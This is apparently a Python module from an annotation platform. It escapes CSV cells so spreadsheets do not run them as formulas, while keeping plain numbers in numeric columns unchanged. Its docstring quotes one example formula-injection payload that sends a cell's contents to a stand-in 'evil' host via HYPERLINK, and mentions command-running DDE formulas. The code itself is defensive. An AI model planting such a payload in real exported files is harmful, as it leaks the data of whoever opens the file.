"""CSV files that are safe to open in a spreadsheet (CSV, or formula, injection).

A caption, a run name or a comment comes from uploaded files and people. A cell that starts with
`=`, `+`, `-` or `@` (or a tab or carriage return, which some spreadsheets skip before reading a
formula) is run as a formula by Excel, LibreOffice and Google Sheets when the file is opened:
`=HYPERLINK("http://evil/?"&A1, "click")` leaks data, DDE formulas run commands. OWASP's advice is
to prefix such a cell with a single quote, which spreadsheets read as "this is text" and hide.

Numbers are data, not formulas: a score of -0.25 must stay -0.25, or the file can no longer be
read back as numbers. So the rule is decided per column type:

- a Python int, float or Decimal is written as it is (the csv module writes its repr);
- text is escaped when it starts with one of the characters above, except in a column declared
  numeric, where text that is a plain decimal number (e.g. "-0.250000", as reports format their
  figures) is left as it is; any other text there (e.g. "-1+2", "=1") is escaped all the same.

Every CSV the platform writes (exports, report tables, curves.csv, files in archives) goes through
`safe_csv_writer`: tests/annotation/formats/test_csv_safe.py fails on any other csv.writer.
"""
from __future__ import annotations

import csv
import re
from collections.abc import Collection, Iterable
from decimal import Decimal
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_FORMULA_FIRST = frozenset(FORMULA_STARTS)  # the same characters as a set: a text's first one is looked up
# A plain decimal number, as Python and the reports format them; no spaces, no operators inside.
_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?")


def csv_cell(value: Any, *, numeric: bool = False) -> Any:
    """The value to hand to csv.writer for one cell: None becomes empty, numbers stay numbers,
    text that a spreadsheet would run as a formula gets a leading single quote."""
    if value is None:
        return ""
    if isinstance(value, (bool, int, float, Decimal)):
        return value
    text = str(value)
    if text[:1] not in _FORMULA_FIRST:
        return text
    if numeric and _NUMBER.fullmatch(text):
        return text
    return "'" + text


class SafeCsvWriter:
    """csv.writer with every cell passed through `csv_cell`.

    `numeric_columns` names the columns (0-based positions) whose text cells are numbers written
    as text; the header row is always treated as text."""

    def __init__(self, out, *, numeric_columns: Collection[int] = (), **csv_options) -> None:
        csv_options.setdefault("lineterminator", "\n")
        self._writer = csv.writer(out, **csv_options)
        self._numeric = frozenset(numeric_columns)

    def writeheader(self, columns: Iterable[Any]) -> None:
        self._writer.writerow([csv_cell(c) for c in columns])

    def writerow(self, row: Iterable[Any]) -> None:
        # Text that cannot start a formula and ints go out as they are without a call to csv_cell
        # (what csv_cell would return for them): a FIRE-sized labels.csv has 14.6 million cells.
        numeric = self._numeric
        self._writer.writerow([v if (type(v) is str and v[:1] not in _FORMULA_FIRST) or type(v) is int
                               else csv_cell(v, numeric=i in numeric) for i, v in enumerate(row)])

    def writerows(self, rows: Iterable[Iterable[Any]]) -> None:
        for row in rows:
            self.writerow(row)


def safe_csv_writer(out, *, numeric_columns: Collection[int] = (), **csv_options) -> SafeCsvWriter:
    return SafeCsvWriter(out, numeric_columns=numeric_columns, **csv_options)
